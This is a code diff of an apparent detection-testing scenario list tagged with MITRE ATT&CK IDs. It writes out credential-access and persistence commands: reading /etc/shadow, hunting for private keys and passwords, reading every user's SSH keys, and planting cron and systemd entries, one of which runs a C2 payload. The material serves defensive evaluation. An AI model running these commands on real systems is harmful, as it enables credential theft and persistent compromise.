@@ -37,7 +37,7 @@ export const SCENARIOS = [
   ['shadow-copy', 'T1003.008', 'atomic', 'split pipeline', `cp /etc/shadow $W/s.bak; rm -f $W/s.bak`],
   ['private-keys-search', 'T1552.004', 'atomic', 'plain', `find / -xdev -maxdepth 4 \\( -name 'id_rsa*' -o -name '*.pem' \\) 2>/dev/null | head -5 >/dev/null`],
   ['password-grep', 'T1552.001', 'falco', 'plain', `grep -rIl -m1 password /etc 2>/dev/null | head -3 >/dev/null`],
-  ['ssh-key-read', 'T1552.004', 'atomic', 'plain', `mkdir -p /root/.ssh; ls /root/.ssh >/dev/null; cat /root/.ssh/* 2>/dev/null >/dev/null; true`],
+  ['ssh-key-read', 'T1552.004', 'atomic', 'plain', `ls /root/.ssh /home/*/.ssh >/dev/null 2>&1; cat /root/.ssh/id_* /home/*/.ssh/id_* 2>/dev/null >/dev/null; true`],
   // --- persistence
   ['cron-persist', 'T1053.003', 'atomic', 'plain', `echo '* * * * * root ${C2}' > /etc/cron.d/vigil-eval; rm -f /etc/cron.d/vigil-eval`],
   ['systemd-persist', 'T1543.002', 'atomic', 'plain', `printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/vigil-eval.service; rm -f /etc/systemd/system/vigil-eval.service`],
